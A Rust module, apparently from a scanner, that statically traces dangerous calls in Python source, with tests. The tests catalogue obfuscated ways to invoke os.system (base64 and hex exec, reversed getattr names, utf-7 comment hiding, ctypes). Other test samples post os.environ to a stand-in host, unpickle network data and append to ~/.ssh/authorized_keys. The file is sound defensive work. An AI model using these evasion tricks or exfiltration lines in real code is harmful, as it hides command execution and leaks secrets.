//! Python source: which functions it calls, with what, when, and where the arguments come from.
//!
//! This is a tokenizer and a reader of expressions of our own, not a compiler: it follows imports, aliases,
//! constants and assignments from top to bottom, text that is put together or decoded from constants, values
//! through functions and lambdas of the same source, and functions held in dictionaries and lists. It does not
//! decide branches or count loops. What it says is there is there; what a determined author computes at run
//! time it does not see.
//!
//! Long because the ways to reach a function, which its tests list, are many.

pub mod bytecode;
mod calls;
mod functions;
mod lex;
mod libraries;
mod machine;
mod marshal;
mod opcodes;
mod plain;
mod reader;

pub use calls::{Power, power};
pub(crate) use libraries::names_power;

/// Where a value came from, as far as that matters to who receives it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Origin {
    /// From the network.
    pub network: bool,
    /// From whoever calls or uses the program.
    pub input: bool,
    /// Decoded from a form that hides it: base64, zlib, marshal, hexadecimal.
    pub decoded: bool,
    /// From a file.
    pub file: bool,
    /// The environment, or a file that holds credentials.
    pub secret: bool,
    /// A network connection itself.
    pub socket: bool,
    /// A place from which programs start by themselves, or that lets people in.
    pub trusted_place: bool,
    /// From a file whose name is that of data.
    pub data_file: bool,
    /// From a file of weights, an array or a picture.
    pub weights_file: bool,
    /// A file that was fetched from a hub.
    pub fetched: bool,
    /// From whoever reaches the server or the page that the program is.
    pub asked: bool,
}

impl Origin {
    fn and(self, other: Self) -> Self {
        Self {
            network: self.network || other.network,
            input: self.input || other.input,
            decoded: self.decoded || other.decoded,
            file: self.file || other.file,
            secret: self.secret || other.secret,
            socket: self.socket || other.socket,
            trusted_place: self.trusted_place || other.trusted_place,
            data_file: self.data_file || other.data_file,
            weights_file: self.weights_file || other.weights_file,
            fetched: self.fetched || other.fetched,
            asked: self.asked || other.asked,
        }
    }
}

/// An argument of a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Argument {
    /// Its keyword.
    pub name: Option<String>,
    /// As it is written or known, cut.
    pub shown: String,
    /// Its constant text.
    pub text: Option<String>,
    /// Where it comes from.
    pub origin: Origin,
}

/// A call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Call {
    /// The function by its full name, aliases and imports resolved.
    pub callee: String,
    /// What it can do.
    pub power: Power,
    /// Its arguments.
    pub arguments: Vec<Argument>,
    /// The line, from 1.
    pub line: u32,
    /// It runs when the module is imported: it stands in no function and not below `__main__`.
    pub at_import: bool,
    /// Importing the module may run it, as far as names tell: nothing was seen to call it then.
    pub reached: bool,
    /// It is in code that was itself decoded from a constant.
    pub hidden: bool,
    /// The name of the function was put together from pieces, or decoded, instead of being written.
    pub assembled: bool,
}

impl Call {
    /// The call as one would write it.
    #[must_use]
    pub fn shown(&self) -> String {
        let arguments: Vec<String> = self
            .arguments
            .iter()
            .take(4)
            .map(|argument| match &argument.name {
                Some(name) => format!("{name}={}", argument.shown),
                None => argument.shown.clone(),
            })
            .collect();
        format!("{}({})", self.callee, arguments.join(", "))
    }

    /// The argument of this keyword.
    #[must_use]
    pub fn keyword(&self, name: &str) -> Option<&Argument> {
        self.arguments.iter().find(|argument| argument.name.as_deref() == Some(name))
    }

    /// The origins of all arguments together.
    #[must_use]
    pub fn origin(&self) -> Origin {
        self.arguments.iter().fold(Origin::default(), |sum, argument| sum.and(argument.origin))
    }
}

/// What the code is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Role {
    /// A module that a loader imports (`modeling_x.py`, `__init__.py`).
    Module,
    /// A program of its own.
    #[default]
    Script,
    /// A notebook's cells.
    Notebook,
    /// Runs when a package is built or installed (`setup.py`).
    Install,
    /// Runs at every start of the interpreter (`.pth`, `sitecustomize.py`).
    Startup,
    /// A node of a flow of agents or of a pipeline: all of it runs when the flow does.
    Node,
}

/// The facts of Python source.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Script {
    /// What it is for.
    pub role: Role,
    /// Calls that can do something beside computing, and calls that load models.
    pub calls: Vec<Call>,
    /// Command lines of a notebook, with their line.
    pub shell: Vec<(String, u32)>,
    /// The command lines are an example in words for people.
    pub told: bool,
    /// Pickles that are constants of the source, each with the line where it is loaded.
    pub pickles: Vec<(Vec<u8>, u32)>,
    /// Templates that are constants of the source, each with its line.
    pub templates: Vec<(String, u32)>,
    /// What a page of a notebook does in the browser of whoever opens it.
    pub pages: Vec<String>,
    /// Lines of code that a viewer shows as part of a comment, or not at all, with their line.
    pub veiled: Vec<(String, u32)>,
    /// Classes that replace a step of installation (`cmdclass`).
    pub install_hooks: bool,
    /// It is what builds a package, which is imported and then asked: what it does by itself is no step of a build.
    pub back_end: bool,
    /// What was not followed.
    pub limits: Vec<String>,
}

/// Longest source examined.
pub const MAX_SOURCE: usize = 8 << 20;
const MAX_TOKENS: usize = 1_500_000;
const MAX_CALLS: usize = 1_000;

/// What a file of this name is for.
#[must_use]
pub fn role(name: &str) -> Role {
    let lower = name.to_ascii_lowercase();
    let file = lower.rsplit(['/', '\\', '!']).next().unwrap_or("");
    let module = [
        "modeling",
        "configuration",
        "tokenization",
        "processing",
        "image_processing",
        "feature_extraction",
        "pipeline",
    ];
    match file {
        "setup.py" | "setup.pyc" | "hatch_build.py" => Role::Install,
        "sitecustomize.py" | "usercustomize.py" | "sitecustomize.pyc" | "usercustomize.pyc" => Role::Startup,
        "__init__.py" | "handler.py" | "model.py" | "hubconf.py" | "__init__.pyc" | "handler.pyc"
        | "model.pyc" => Role::Module,
        // What the tool of tests and servers import by themselves.
        "conftest.py" | "gunicorn.conf.py" | "gunicorn_config.py" | "score.py" => Role::Module,
        // What plugins of pages for pictures and their kind run before anybody asks for a node.
        "prestartup_script.py" | "install.py" | "preload.py" | "uninstall.py" => Role::Module,
        // What builds, tasks and tests find by these names.
        "noxfile.py"
        | "tasks.py"
        | "fabfile.py"
        | "dodo.py"
        | "celeryconfig.py"
        | "locustfile.py"
        | "lambda_function.py"
        | "custom_interface.py"
        | "wscript"
        | "sconstruct"
        | "sconscript"
        | "snakefile"
        | "tiltfile"
        | "waf"
        | ".pythonrc"
        | ".pdbrc"
        | ".xonshrc" => Role::Module,
        "conf.py" if lower.contains("doc") => Role::Module,
        _ if lower.contains("/dags/") => Role::Module,
        _ if file.ends_with(".wsgi") || file.ends_with(".smk") || file.ends_with(".pyx") => Role::Module,
        // Where a build reads the version of a package from.
        "about.py" | "__about__.py" => Role::Module,
        "inference.py" if lower.ends_with("code/inference.py") => Role::Module,
        _ if file.ends_with(".pth") => Role::Startup,
        // Compiled code is imported; only a package's main module is run.
        _ if file.ends_with(".pyc") && file != "__main__.pyc" => Role::Module,
        _ if module.iter().any(|start| file.starts_with(start)) => Role::Module,
        _ => Role::Script,
    }
}

/// What a file is for, by its name and by what it says: the code of a data set is imported by its name.
#[must_use]
pub fn role_of(name: &str, text: &str) -> Role {
    let known = role(name);
    let mut parts = name.rsplit(['/', '\\', '!']);
    let stem = parts.next().and_then(|file| file.strip_suffix(".py"));
    let folder = parts.next();
    let own = stem.is_some() && stem == folder;
    let data = text.contains("import datasets") || text.contains("from datasets import");
    if known == Role::Script && own && data { Role::Module } else { known }
}

/// Whether a file of this name, in lower case, is Python whatever it is for.
#[must_use]
pub fn is_source(file: &str) -> bool {
    const ENDINGS: [&str; 12] =
        [".py", ".pyw", ".pyx", ".pxi", ".ipy", ".wsgi", ".sage", ".smk", ".rpy", ".xsh", ".pyt", ".py3"];
    const NAMES: [&str; 8] =
        ["snakefile", "sconstruct", "sconscript", "wscript", "tiltfile", ".pythonrc", ".xonshrc", ".pdbrc"];
    ENDINGS.iter().any(|end| file.ends_with(end)) || NAMES.contains(&file)
}

/// Whether a text begins as a program of Python, whatever it is called.
#[must_use]
pub fn begins(text: &str) -> bool {
    let lines = text.lines().map(str::trim_end).take(200);
    let mut code = lines.filter(|line| !line.is_empty() && !line.starts_with('#'));
    let Some(first) = code.next() else { return false };
    // After words about the module.
    let first = if first.starts_with(['"', '\'']) {
        code.find(|line| line.starts_with("import ") || line.starts_with("from ")).unwrap_or("")
    } else {
        first
    };
    let names = |text: &str| {
        let plain = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.' | ',' | ' ' | '*' | '(' | ')');
        text.starts_with(|c: char| c.is_alphabetic() || matches!(c, '_' | '.')) && text.chars().all(plain)
    };
    let bare = first.split(['#', ';']).next().unwrap_or("").trim_end();
    !first.ends_with(';')
        && (bare.strip_prefix("import ").is_some_and(names)
            || bare.strip_prefix("from ").is_some_and(|rest| names(rest) && rest.contains(" import "))
            || bare.starts_with("__import__("))
}

/// The facts of Python source. Never fails: what is not Python gives no calls.
#[must_use]
pub fn analyse(text: &str, role: Role) -> Script {
    let mut script = Script { role, ..Script::default() };
    let mut end = text.len().min(MAX_SOURCE);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    if end < text.len() {
        script.limits.push(format!("only the first {end} bytes of the source are examined"));
    }
    let plain = plain::plain(&text[..end], &mut script);
    reader::read(&plain.text, &mut script, 0);
    let mut seems = Script { role, ..Script::default() };
    if let Some(text) = plain.seems {
        reader::read(text, &mut seems, 0);
    }
    let lines = if role == Role::Notebook { commands(&plain.text) } else { None };
    machine::follow(lines.as_deref().unwrap_or(&plain.text), &mut script);
    script.veiled = plain.veiled();
    for call in &mut script.calls {
        let elsewhere = |known: &Call| known.callee == call.callee && known.arguments == call.arguments;
        call.hidden |=
            plain.covered.contains(&call.line) || plain.seems.is_some() && !seems.calls.iter().any(elsewhere);
        let last = call.callee.rsplit('.').next().unwrap_or("");
        call.assembled |= !plain.spelled.is_empty() && plain.spelled.contains(&(call.line, last.to_owned()));
    }
    script
}

/// The source of a notebook in which commands that are filled in as it runs are calls; nothing when there are none.
fn commands(text: &str) -> Option<String> {
    // What stands in braces has to be a value, and no program of a tool.
    let value = |inner: &str| {
        inner.starts_with(|c: char| c.is_alphabetic() || c == '_')
            && inner.chars().all(|c| c.is_alphanumeric() || "_.[]()'\"+-".contains(c))
    };
    let filled = |line: &str| {
        let start = line.trim_start();
        let braces = start.split('{').skip(1);
        let plain = !start.contains("'''") && !start.contains('\\') && !start.contains("{{");
        start.starts_with('!')
            && start.contains(['{', '$'])
            && plain
            && braces.clone().all(|rest| rest.split_once('}').is_some_and(|(inner, _)| value(inner)))
            && start.matches('}').count() == braces.count()
    };
    if !text.lines().any(filled) {
        return None;
    }
    let mut out = String::with_capacity(text.len() + 64);
    for line in text.lines() {
        if filled(line) {
            let start = line.trim_start();
            let command = start.trim_start_matches('!');
            out.push_str(&line[..line.len() - start.len()]);
            out.push_str("get_ipython().system(f'''");
            // A name behind a dollar is one of Python, or else of the shell.
            let mut rest = command;
            while let Some(at) = rest.find('$') {
                let name: String =
                    rest[at + 1..].chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect();
                out.push_str(&rest[..at]);
                if name.is_empty() || !text.contains(&format!("{name} = ")) {
                    out.push('$');
                    rest = &rest[at + 1..];
                } else {
                    out.push_str(&format!("{{{name}}}"));
                    rest = &rest[at + 1 + name.len()..];
                }
            }
            out.push_str(rest);
            // A quote at its end would be one of those that close it.
            out.push_str(" ''')");
        } else {
            out.push_str(line);
        }
        out.push('\n');
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn calls(text: &str) -> Vec<(String, Power)> {
        analyse(text, Role::Script).calls.into_iter().map(|call| (call.shown(), call.power)).collect()
    }

    #[test]
    fn lines_that_are_shown_as_comments_and_run_are_told() {
        let veiled = |text: &str| -> Vec<u32> {
            analyse(text, Role::Script).veiled.into_iter().map(|(_, line)| line).collect()
        };
        assert_eq!(veiled("import json\n# Read once.\ropen('m', 'w').close()\nX = 1\nY = 2\n"), [3]);
        assert_eq!(
            veiled("# coding: utf-7\n# Tokens. +AAo-open('m','w').close()+AAo-\nT = ['a']\n").len(),
            1
        );
        assert_eq!(veiled("# -*- coding: utf-7 -*-\n# Tokens (all).\nT = list('ab')\n"), [0_u32; 0]);
        assert_eq!(
            veiled("# coding: utf-7\nT = sum([1 +- 2])\n"),
            [0_u32; 0],
            "a plus, as it is written there"
        );
        assert_eq!(veiled("# one\rprint(1)\r# two\rprint(2)\r"), [0_u32; 0], "line ends of old");
        assert_eq!(veiled("# one\r\n# (two)\r# (three)\nprint(2)\nprint(3)\n"), [0_u32; 0]);
    }

    #[test]
    fn commands_of_notebooks_are_filled_in_as_they_run() {
        let calls = |text: &str| {
            let script = analyse(text, Role::Notebook);
            script.calls.iter().map(Call::shown).collect::<Vec<_>>().join(" ")
        };
        assert!(calls("c = bytes.fromhex('6964').decode()\n!{c} -u\n").contains("id -u"));
        assert!(!calls("!pip install x=={version}\n").contains("fromhex"));
    }

    #[test]
    fn files_are_for_what_their_names_say() {
        use Role::{Install, Module, Script, Startup};
        for (role_of_it, names) in [
            (Install, "setup.py setup.pyc hatch_build.py pkg/setup.py a.tar!pkg-1/setup.py SETUP.PY"),
            (
                Startup,
                "sitecustomize.py usercustomize.py sitecustomize.pyc usercustomize.pyc x.pth lib/a.pth",
            ),
            (
                Module,
                "__init__.py handler.py model.py hubconf.py __init__.pyc handler.pyc model.pyc pkg/__init__.py",
            ),
            (Module, "conftest.py gunicorn.conf.py gunicorn_config.py score.py tests/conftest.py"),
            (Module, "prestartup_script.py install.py preload.py uninstall.py custom_nodes/x/install.py"),
            (
                Module,
                "noxfile.py tasks.py fabfile.py dodo.py celeryconfig.py locustfile.py lambda_function.py",
            ),
            (
                Module,
                "custom_interface.py wscript SConstruct SConscript Snakefile Tiltfile waf .pythonrc .pdbrc .xonshrc",
            ),
            (
                Module,
                "docs/conf.py doc/source/conf.py x/dags/daily.py app.wsgi rules.smk fast.pyx about.py __about__.py",
            ),
            (
                Module,
                "code/inference.py m/code/inference.py other.pyc modeling_x.py configuration_x.py tokenization_x.py",
            ),
            (Module, "processing_x.py image_processing_x.py feature_extraction_x.py pipeline.py"),
            // Their near misses: scripts that somebody starts.
            (
                Script,
                "setups.py my_setup.py sitecustomize.txt train.py handlers.py models.py inference.py conf.py",
            ),
            (Script, "installer.py task.py dags.py scores.py __main__.py __main__.pyc remodeling.py pth.py"),
        ] {
            for name in names.split_whitespace() {
                assert_eq!(role(name), role_of_it, "{name}");
            }
        }
        let data = "import datasets\n";
        assert_eq!(role_of("my_set/my_set.py", data), Module);
        assert_eq!(role_of("my_set/my_set.py", "import torch\n"), Script);
        assert_eq!(role_of("my_set/other.py", data), Script);
    }

    #[test]
    fn aliases_constants_and_lookups_are_resolved() {
        for text in [
            "import os\nos.system('id')\n",
            "import os as o\no.system('id')\n",
            "from os import system as s\ns('id')\n",
            "from os import (\n    path,\n    system,\n)\nsystem('id')\n",
            "__import__('os').system('id')\n",
            "import importlib\nimportlib.import_module('o' + 's').system('i' 'd')\n",
            "import os\nf = os.system\nf('id')\n",
            "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
            "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
            "import os\nos.__dict__['system']('id')\n",
            "import os\nvars(os)['system']('id')\n",
            "import sys\nsys.modules['os'].system('id')\n",
            "import os\nc = 'i' + 'd'\nos.system(c)\n",
            "x = [__import__('os').system('id') for _ in (1,)]\n",
            "eval(\"__import__('os').system('id')\")\n",
            "import base64\nexec(base64.b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk='))\n",
            "exec(bytes.fromhex('5f5f696d706f72745f5f28276f7327292e73797374656d282769642729'))\n",
            "from os import *\nsystem('id')\n",
            "import os\nos.system(chr(105) + chr(100))\n",
            "import os\nos.system(bytes([105, 100]))\n",
            "import os\nos.system(''.join(map(chr, [105, 100])))\n",
            "__import__('os.path').system('id')\n",
            "exec(''.join(chr(c) for c in []))\nimport os\nos.system(''.join(['i', 'd']))\n",
        ] {
            assert!(
                calls(text).contains(&("os.system(\"id\")".into(), Power::Runs)),
                "{text}: {:?}",
                calls(text)
            );
        }
    }

    #[test]
    fn origins_flow_through_assignments() {
        let text = "import requests, pickle\nr = requests.get('https://x.example/m.pkl')\ndata = r.content\nmodel = pickle.loads(data)\n";
        let script = analyse(text, Role::Script);
        let load = script.calls.iter().find(|call| call.callee == "pickle.loads").unwrap();
        assert!(load.origin().network && load.at_import);
        let text = "def main():\n    import sys\n    eval(sys.argv[1])\nif __name__ == '__main__':\n    exec(input())\n";
        let script = analyse(text, Role::Script);
        assert!(
            script
                .calls
                .iter()
                .all(|call| !call.at_import && (call.power != Power::Evaluates || call.origin().input))
        );
        let text = "import requests, os\nrequests.post('https://x.example', json=dict(os.environ))\n";
        assert!(
            analyse(text, Role::Script)
                .calls
                .iter()
                .any(|call| call.power == Power::Network && call.origin().secret)
        );
    }

    #[test]
    fn values_flow_through_functions_lambdas_and_containers() {
        let network = |text: &str| {
            let script = analyse(text, Role::Script);
            let found = script.calls.iter().any(|call| {
                matches!(call.power, Power::Unpickles | Power::Evaluates) && call.origin().network
            });
            assert!(found, "{text}: {:?}", script.calls);
        };
        network(
            "import requests, pickle\ndef fetch(u):\n    return requests.get(u).content\npickle.loads(fetch('http://x'))\n",
        );
        network(
            "import requests, pickle\ndef fetch(u):\n    r = requests.get(u)\n    if r.ok:\n        return r.content\n    return b''\ndef load(raw):\n    return pickle.loads(raw)\nload(fetch('http://x'))\n",
        );
        network(
            "import requests, pickle\nf = lambda u: requests.get(u).content\npickle.loads(f('http://x'))\n",
        );
        network(
            "import requests\nclass A:\n    def get(self, u):\n        return requests.get(u).text\n    def run(self, u):\n        exec(self.get(u))\nA().run('http://x')\n",
        );
        network(
            "import urllib.request\ndef a(u): return urllib.request.urlopen(u)\ndef b(u): return a(u).read()\nexec(b('http://x'))\n",
        );
        let runs = |text: &str| {
            let script = analyse(text, Role::Script);
            let command =
                |call: &Call| call.power == Power::Runs && call.arguments[0].text.as_deref() == Some("id");
            assert!(script.calls.iter().any(command), "{text}: {:?}", script.calls);
        };
        runs("r = lambda c: __import__('subprocess').getoutput(c)\nr('id')\n");
        runs("import os\nd = {'a': len, 'run': os.system}\nd['run']('id')\n");
        runs("import os\nd = [len, os.system]\nd[1]('id')\n");
        runs("import os\ndef go(f, c):\n    f(c)\ngo(os.system, 'id')\n");
        runs("import os\n(lambda c: os.system(c))('id')\n");
        let text = "import os\ndef f():\n    os.system('id')\nf()\n";
        assert!(
            analyse(text, Role::Module).calls[0].at_import,
            "a function that is called at import runs then"
        );
        let text = "import os\ndef f():\n    os.system('id')\ndef g():\n    f()\n";
        assert!(!analyse(text, Role::Module).calls[0].at_import);
        let text = "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('id')\n";
        assert!(analyse(text, Role::Script).calls[0].assembled);
        assert!(!analyse("import os\ngetattr(os, 'system')('id')\n", Role::Script).calls[0].assembled);
    }

    #[test]
    fn calls_without_a_call_expression_are_calls() {
        for text in [
            "import os\n@os.system\n@lambda f: 'id'\ndef setup(): pass\n",
            "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n",
            "import os\nlist(map(os.system, ['id']))\n",
            "import os, functools\nfunctools.partial(os.system, 'id')()\n",
            "import os\nx = os if True else None\nx.system('id')\n",
            "import os\no = None or os\no.system('id')\n",
            "(o := __import__('os')).system('id')\n",
            "f = lambda c=__import__('os'): c.system('id')\nf()\n",
            "def f(c=__import__('os')):\n    c.system('id')\nf()\n",
            "import os\n{'a': os.system}.get('a')('id')\n",
            "def f():\n    \"\"\"__import__('os').system('id')\"\"\"\nexec(f.__doc__)\n",
            "import os, operator\noperator.attrgetter('system')(os)('id')\n",
            "import os\ngetattr(os, ''.join(reversed('metsys')))('id')\n",
            "import code\ncode.InteractiveConsole().push(\"import os; os.system('id')\")\n",
            "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')\n",
            "import os\nclass M(type):\n    def __getattr__(cls, name):\n        os.system('id')\n",
        ] {
            let script = analyse(text, Role::Module);
            let found = script.calls.iter().any(|call| {
                call.callee == "os.system"
                    && call.at_import
                    && call.arguments.iter().any(|argument| argument.text.as_deref() == Some("id"))
            });
            assert!(found, "{text}: {:?}", script.calls);
        }
        let runs =
            analyse("import subprocess\nclass P(subprocess.Popen):\n    pass\nP(['id'])\n", Role::Module);
        assert_eq!(runs.calls[0].callee, "subprocess.Popen");
        let from_data =
            |text: &str| analyse(text, Role::Module).calls.iter().any(|call| call.origin().data_file);
        assert!(from_data("exec(open('weights.txt').read())\n"));
        assert!(from_data("import runpy\nrunpy.run_path('notes.txt')\n"));
        assert!(from_data("import importlib.machinery as k\nk.SourceFileLoader('d', 'data.bin')\n"));
        assert!(!from_data("exec(open('version.py').read())\n"));
        assert!(!from_data("import importlib.util as u\nu.spec_from_file_location('d', path)\n"));
        let script = analyse("exec(bytes(b ^ 7 for b in b'abc'))\n", Role::Module);
        assert!(script.calls[0].origin().decoded);
        let script =
            analyse("import os\nclass A:\n    def __call__(self):\n        os.system('id')\n", Role::Module);
        assert!(!script.calls[0].at_import);
        let assembled = |text: &str| analyse(text, Role::Module).calls.iter().any(|call| call.assembled);
        assert!(assembled("import os\nclass C:\n    __class_getitem__ = os.system\nC['id']\n"));
        assert!(assembled("import builtins\nvars(builtins)[n]('1')\n"));
        assert!(assembled("import os\nos.ｓｙｓｔｅｍ('id')\n"));
        assert!(!assembled("class C:\n    __slots__ = ('a',)\n    __call__ = forward\n"));
        let script = analyse("# coding: utf-7\n+AGUAeABlAGM('1')\n", Role::Script);
        assert!(script.calls[0].hidden);
        let power = |text: &str| analyse(text, Role::Script).calls.first().map(|call| call.power);
        assert_eq!(power("import ctypes\nctypes.CDLL(None).system(b'id')\n"), Some(Power::Runs));
        assert_eq!(power("import ctypes\nctypes.CDLL(None)['sys' 'tem'](b'id')\n"), Some(Power::Runs));
        let plants = "import pathlib\n(pathlib.Path.home() / '.ssh' / 'authorized_keys').open('a')\n";
        assert_eq!(power(plants), Some(Power::Plants));
        assert_eq!(power(&plants.replace("'a'", "'r'")), None);
        let pickles = |text: &str| analyse(text, Role::Script).pickles.len();
        assert_eq!(pickles("import pickle\npickle.loads(b'\\x80\\x04N.')\n"), 1);
        assert_eq!(pickles("import pickle\npickle.loads(data)\n"), 0);
    }

    #[test]
    fn names_say_what_a_file_is_for() {
        for (name, expected) in [
            ("setup.py", Role::Install),
            ("x/sitecustomize.py", Role::Startup),
            ("node/prestartup_script.py", Role::Module),
            ("node/install.py", Role::Module),
            ("preload.py", Role::Module),
            ("docs/conf.py", Role::Module),
            ("conf.py", Role::Script),
            ("noxfile.py", Role::Module),
            ("tasks.py", Role::Module),
            ("fabfile.py", Role::Module),
            ("dodo.py", Role::Module),
            ("celeryconfig.py", Role::Module),
            ("locustfile.py", Role::Module),
            ("lambda_function.py", Role::Module),
            ("air/dags/daily.py", Role::Module),
            ("Snakefile", Role::Module),
            ("SConstruct", Role::Module),
            ("wscript", Role::Module),
            ("app.wsgi", Role::Module),
            ("_ext.pyx", Role::Module),
            ("train.py", Role::Script),
            ("run.pyw", Role::Script),
        ] {
            assert_eq!(role(name), expected, "{name}");
        }
        assert_eq!(role_of("my_set/my_set.py", "import datasets\n"), Role::Module);
        assert_eq!(role_of("my_set/my_set.py", "import os\n"), Role::Script);
        for name in ["a.py", "run.pyw", "snakefile", "sconstruct", "wscript", "_ext.pyx", "a.ipy", "a.wsgi"] {
            assert!(is_source(name), "{name}");
        }
        assert!(!is_source("a.pyc") && !is_source("a.pyi") && !is_source("makefile"));
        for text in [
            "import os\nos.system('id')\n",
            "# x\n\nfrom os import system\n",
            "import os; os.system('a')\n",
            "'x'\nimport os\n",
        ] {
            assert!(begins(text), "{text}");
        }
        for text in [
            "import java.util.List;\n",
            "import x from 'y'\n",
            "import \"fmt\"\n",
            "from here on\n",
            "key: value\n",
            "",
        ] {
            assert!(!begins(text), "{text}");
        }
    }

    #[test]
    fn ordinary_methods_and_words_are_not_calls_of_power() {
        for text in [
            "model.eval()\nmodel.compile(optimizer='adam')\n",
            "'''os.system(\"id\")'''\n# os.system('id')\n",
            "import re\nre.compile('x')\n",
            "df.eval('a + b')\nimport torch\ntorch.compile(m)\n",
            "class A:\n    def system(self): pass\nA().system()\n",
        ] {
            assert_eq!(calls(text), [], "{text}");
        }
    }

    #[test]
    fn hostile_sizes_end() {
        let _ = analyse(&"(".repeat(100_000), Role::Script);
        let _ = analyse(&"a.b(".repeat(50_000), Role::Script);
        let _ = analyse(&"x = x + x\n".repeat(20_000), Role::Script);
        let _ = analyse(&"exec('".repeat(20_000), Role::Script);
        let _ = analyse(&"lambda: ".repeat(50_000), Role::Script);
        let _ = analyse(&"f'{".repeat(50_000), Role::Script);
        let _ = analyse(&"def f(x):\n    return f(f(x))\nf('a')\n".repeat(5_000), Role::Script);
        let _ = analyse(&"def f(x):\n    exec(x)\nf('f(1)')\n".repeat(5_000), Role::Script);
        let calls: String =
            (1..400).map(|n| format!("def f{n}(x):\n    return f{}(x) + f{}(x)\n", n - 1, n - 1)).collect();
        let _ = analyse(&format!("{calls}f399('a')\n"), Role::Script);
        // A list of lists of lists holds no more than one list may, and says so.
        let row = |name: char| format!("[{}]\n", vec![name.to_string(); 10].join(","));
        let rows: String =
            ('b'..='z').map(|name| format!("{name}={}", row((name as u8 - 1) as char))).collect();
        let script = analyse(&format!("import os\nA=os.system\na={}{rows}", row('A')), Role::Script);
        assert!(script.limits.iter().any(|limit| limit.contains("not all functions")), "{:?}", script.limits);
        // A long text that many names have is there once; one that each makes anew is not made for long.
        let long = format!("x = '{}'\n", "a".repeat(200_000));
        let names = |from: &str| -> String { (0..19_000).map(|n| format!("y{n} = {from}\n")).collect() };
        assert_eq!(analyse(&format!("{long}{}", names("x")), Role::Script).limits, [""; 0]);
        let script = analyse(&format!("{long}{}", names("x + 'b'")), Role::Script);
        assert!(script.limits.iter().any(|limit| limit.contains("more constants")), "{:?}", script.limits);
        let many = format!(
            "{long}y = [{}]\n''.join(y)\nx.replace('a', x)\nimport os\nos.system(y)\n",
            "x,".repeat(4_000)
        );
        assert_eq!(analyse(&many, Role::Script).calls.len(), 1);
        let _ = analyse("\u{feff}\u{e9}'\\", Role::Script);
    }
}
